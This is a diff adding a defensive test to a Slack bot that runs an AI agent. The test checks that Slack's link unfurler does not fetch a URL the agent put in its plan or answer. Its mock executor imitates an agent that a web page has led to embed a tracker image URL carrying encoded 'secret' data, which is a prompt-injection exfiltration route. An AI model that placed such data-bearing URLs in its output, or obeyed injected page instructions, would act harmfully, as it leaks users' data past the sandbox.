@@ -148,3 +148,43 @@ test('plan progress is one message, updated at most once a second', async () => 
     await f.close();
   }
 });
+
+const PIXEL = 'https://tracker.example/p.png?d=c2VjcmV0';
+
+/** Plans a step naming an image address, as an agent told so by a web page would. */
+class PixelPlanner implements TaskExecutor {
+  async run(run: TaskRun, _signal: AbortSignal, events: EventSink): Promise<TaskOutcome> {
+    await events.event('plan', {
+      items: [{ content: `fetch ${PIXEL} for the chart`, status: 'in_progress' }],
+    });
+    await new Promise((r) => setTimeout(r, 200));
+    return {
+      kind: 'success',
+      text: `done, see ${PIXEL} and ![chart](${PIXEL})`,
+      files: [],
+      sessionId: `s-${run.conversation.id}`,
+    };
+  }
+}
+
+test("a URL the agent put in its plan or answer is not fetched by Slack's unfurler", async () => {
+  // Slack's servers fetch a media link in a bot's message to show a preview, unless the
+  // post says not to: the address could carry what the agent read, out of the sandbox.
+  const f = await slackFixture({ executor: new PixelPlanner(), slack });
+  try {
+    const m = await slack.post({ user: 'U1ALICE', channel: 'D1', text: 'draw the chart' });
+    await slack.waitFor(
+      () => slack.repliesIn('D1', m.ts).some((x) => /^done/.test(x.text)),
+      'the reply',
+    );
+    const plan = slack.repliesIn('D1', m.ts).find((x) => /Plan/.test(x.text));
+    assert.ok(plan?.text.includes(PIXEL), 'the plan shows the step');
+    assert.deepEqual(
+      slack.unfurled.filter((u) => u.includes('tracker.example')),
+      [],
+      'Slack would fetch the address',
+    );
+  } finally {
+    await f.close();
+  }
+});
